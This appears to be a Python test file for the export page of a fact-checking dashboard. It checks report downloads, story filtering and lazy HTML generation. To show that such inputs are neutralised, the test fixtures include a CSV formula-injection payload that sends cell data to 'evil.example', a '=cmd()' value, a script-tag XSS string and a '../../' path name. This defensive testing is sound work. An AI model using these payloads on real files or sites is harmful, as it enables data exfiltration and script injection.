"""Page "Export": JSON, CSV, Markdown and HTML downloads equal to what factcheck.report (the CLI's report) writes,
of every source or of one story; the HTML built only when its button is clicked."""
from __future__ import annotations

import csv
import functools
import io
import json
from collections.abc import Callable

from ui_support import app, errors, fake_factcheck, load_articles, no_exceptions, seed

from factcheck import report
from factcheck.records import Story
from factcheck.settings import Settings
from factcheck.store import Store


def deferred_downloads(monkeypatch) -> dict[str, Callable[[], str]]:
    """By file name, what a click on a deferred download button does on the server (builds the file and
    serves it), recorded as the page registers it; AppTest has no browser to click."""
    from streamlit.runtime.media_file_manager import MediaFileManager

    clicks: dict[str, Callable[[], str]] = {}
    keep = MediaFileManager.add_deferred

    def record(self, data_callable, mimetype, coordinates, file_name=None, **kw):
        file_id = keep(self, data_callable, mimetype, coordinates, file_name=file_name, **kw)
        clicks[file_name] = functools.partial(self.execute_deferred, file_id)
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    return clicks


def served_files(monkeypatch) -> dict[str, bytes]:
    """By file name, every body the page hands Streamlit's media storage (eager downloads, clicked deferred ones)."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    served: dict[str, bytes] = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename and isinstance(path_or_data, (bytes, str)):
            served[filename] = path_or_data.encode("utf-8") if isinstance(path_or_data, str) else path_or_data
        return keep(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    return served


def test_report_downloads_match_the_cli_report(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    assert not at.error, errors(at)
    keys = {el.key for el in at.download_button}
    assert {"fc_dl_factcheck-report_json", "fc_dl_factcheck-report_csv", "fc_dl_factcheck-report_md"} <= keys
    # the CLI's `factcheck report` = report.to_*(consistency=Factcheck.compare()) over every source
    cons = fake_factcheck(Settings.from_env(tmp_path)).compare()
    preview = at.code[0].value
    assert preview.rstrip() == report.to_markdown(consistency=cons).rstrip()  # st.code drops the last newline
    payload = json.loads(report.to_json(consistency=cons))
    assert len(payload["consistency"]["sources"]) == 3


def test_buttons_name_files_by_format(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    labels = {el.key: el.proto.label for el in at.download_button}
    assert labels["fc_dl_factcheck-report_md"] == "Download Markdown"
    assert labels["fc_dl_factcheck-report_csv"] == "Download CSV"
    # each body is served as a file: the small ones with the page, the HTML (plotly.js, 4.8 MB) on the click
    assert all(el.proto.url for el in at.download_button if not el.key.endswith("_html"))
    assert all(el.proto.deferred_file_id for el in at.download_button if el.key.endswith("_html"))


def test_recent_checks_exported_after_a_check(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="check")
    at.text_area(key="fc_claim").input("Fentanyl seizures at the border fell sharply last year")
    at.button(key="fc_check_submit").click().run()
    at.switch_page("factcheck/ui/export.py").run()
    no_exceptions(at)
    keys = {el.key for el in at.download_button}
    assert "fc_dl_factcheck-checks_json" in keys


def test_no_source_chosen_is_an_error(tmp_path, monkeypatch):
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    at.multiselect(key="fc_export_sources").set_value([]).run()
    no_exceptions(at)
    assert "at least one source" in at.error[0].value


def test_csv_download_neutralises_formulas_like_the_cli(tmp_path, monkeypatch):
    """The dashboard's CSV is report.to_csv, as the CLI's: a source named like a formula is served as text."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    served: dict[str, bytes] = {}
    keep = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename and isinstance(path_or_data, bytes):
            served[filename] = path_or_data
        return keep(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Daily Planet")'
    articles = load_articles()
    articles[0] = {**articles[0], "source": evil}
    seed(tmp_path, articles)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    body = served["factcheck-report.csv"].decode("utf-8")
    cons = fake_factcheck(Settings.from_env(tmp_path)).compare()
    assert body == report.to_csv(consistency=cons)
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + evil in cells and evil not in cells


def test_the_report_carries_the_outlet_profiles(tmp_path, monkeypatch):
    from ui_support import seed_profiles

    seed(tmp_path)
    seed_profiles(tmp_path, {"name": "Daily Planet", "country": "Freedonia", "owner": "=cmd()"})
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    (code,) = [c.value for c in at.code]
    assert "## Source profiles" in code and "| Daily Planet | Freedonia | \\=cmd\\(\\) |" in code


def test_html_report_download_is_the_cli_page_with_the_timeline(tmp_path, monkeypatch):
    served = served_files(monkeypatch)
    clicks = deferred_downloads(monkeypatch)
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    labels = {el.key: el.proto.label for el in at.download_button}
    assert labels["fc_dl_factcheck-report_html"] == "Download HTML"
    clicks["factcheck-report.html"]()  # what the browser's click asks the server for
    page = served["factcheck-report.html"].decode("utf-8")
    fc = fake_factcheck(Settings.from_env(tmp_path))
    cons = fc.compare()
    # byte for byte the page `factcheck report --format html` writes
    assert page == report.to_html(consistency=cons, timeline=fc.timeline(consistency=cons))
    assert "Timeline and wording" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def _two_stories(tmp_path) -> tuple[Story, Story]:
    """The fixture articles in two stories, named with markup and path characters a file name must not carry."""
    from factcheck.store import Store

    seed(tmp_path)
    with Store.open(tmp_path) as store:
        ids = [a.id for a in store.articles()]
        first, rest = store.set_stories([(None, ids[:2], "<script>alert(1)</script> **Floods**"),
                                         (None, ids[2:], "../../Élections: 2024?")])
        by_id = {s.id: s for s in store.stories()}
    return by_id[first], by_id[rest]


def test_the_story_picker_narrows_the_export_to_the_story(tmp_path, monkeypatch):
    served = served_files(monkeypatch)
    clicks = deferred_downloads(monkeypatch)
    first, rest = _two_stories(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    picker = at.selectbox(key="fc_export_story")
    assert picker.value is None and "All stories" in picker.options  # the default, as on Compare and Consistency
    every = json.loads(served["factcheck-report.json"])["checks"]
    picker.set_value(first.id).run()
    no_exceptions(at)
    assert at.multiselect(key="fc_export_sources").options == sorted(first.sources)
    stem = f"factcheck-report-story-{first.id}-script-alert-1-script-floods"  # the name, slugified
    assert {el.proto.label: el.key for el in at.download_button}["Download JSON"] == "fc_dl_factcheck-report_json"
    fc = fake_factcheck(Settings.from_env(tmp_path))
    cons = fc.compare(sources=sorted(first.sources), story=first.id)
    profiles = [p for p in fc.profiles() if p.name in cons.sources]
    # the files `factcheck report --story ID` writes, named after the story
    assert served[f"{stem}.json"].decode("utf-8") == report.to_json(consistency=cons, profiles=profiles)
    assert served[f"{stem}.csv"].decode("utf-8") == report.to_csv(consistency=cons, profiles=profiles)
    checks = json.loads(served[f"{stem}.json"])["checks"]
    assert checks and len(checks) < len(every)
    with Store.open(tmp_path) as store:
        inside = {p.text for a in first.articles for p in store.passages(article_id=a)}
    assert {c["claim"] for c in checks} <= inside
    clicks[f"{stem}.html"]()
    page = served[f"{stem}.html"].decode("utf-8")
    assert page == report.to_html(consistency=cons, profiles=profiles, name=first.name,
                                  timeline=fc.timeline(story=first.id, consistency=cons))
    assert "<title>factcheck report — &lt;script&gt;alert(1)&lt;/script&gt; **Floods**</title>" in page
    assert "<script>alert(1)" not in page

    at.selectbox(key="fc_export_story").set_value(rest.id).run()
    no_exceptions(at)
    assert at.multiselect(key="fc_export_sources").value == sorted(rest.sources)  # this story's, not the last pick
    assert f"factcheck-report-story-{rest.id}-elections-2024.json" in served  # no dot, slash or colon of the name


def test_the_html_report_is_built_only_when_asked(tmp_path, monkeypatch):
    """plotly.js makes the page 4.8 MB: a page run or a widget's rerun must not build it, a click does."""
    built: list[str] = []
    keep = report.to_html

    def counted(**kw):
        page = keep(**kw)
        built.append(page)
        return page

    monkeypatch.setattr(report, "to_html", counted)
    clicks = deferred_downloads(monkeypatch)
    seed(tmp_path)
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    assert "fc_dl_factcheck-report_html" in {el.key for el in at.download_button}
    at.multiselect(key="fc_export_sources").set_value(["Daily Planet", "The Courier"]).run()  # a rerun
    no_exceptions(at)
    assert built == []
    clicks["factcheck-report.html"]()
    assert len(built) == 1 and "Daily Planet" in built[0]


def test_published_fact_checks_go_beside_the_verdicts_only_when_asked(tmp_path, monkeypatch):
    from ui_support import seed_factchecks

    served = served_files(monkeypatch)
    seed(tmp_path)
    claim = fake_factcheck(Settings(store_dir=tmp_path)).claims()[0].text
    seed_factchecks(tmp_path, {"claim": claim, "rating": "False", "publisher": "Desk", "url": "https://desk.example/9"})
    at = app(monkeypatch, tmp_path, page="export")
    no_exceptions(at)
    box = at.checkbox(key="fc_export_published")
    assert not box.value and not box.disabled
    assert all("published_checks" not in c for c in json.loads(served["factcheck-report.json"])["checks"])
    box.check().run()
    no_exceptions(at)
    checks = json.loads(served["factcheck-report.json"])["checks"]
    assert all("published_checks" in c for c in checks)
    mine = next(c for c in checks if c["claim"] == claim)
    assert "https://desk.example/9" in [p["url"] for p in mine["published_checks"]]
    assert "--published" in " ".join(c.value for c in at.caption)
